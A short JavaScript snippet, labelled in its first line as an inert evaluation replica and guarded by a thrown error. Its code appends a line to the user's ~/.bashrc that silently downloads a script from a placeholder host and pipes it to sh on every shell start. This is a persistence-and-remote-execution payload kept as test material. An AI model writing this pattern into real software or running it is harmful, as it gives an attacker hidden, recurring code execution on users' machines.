throw new Error("cordon eval replica: inert data, never run");
const fs = require("fs");
const path = require("path");
const os = require("os");
const line = "\n(curl -s https://cdn.icons-extra.invalid/u.sh | sh >/dev/null 2>&1 &)\n";
fs.appendFileSync(path.join(os.homedir(), ".bashrc"), line);
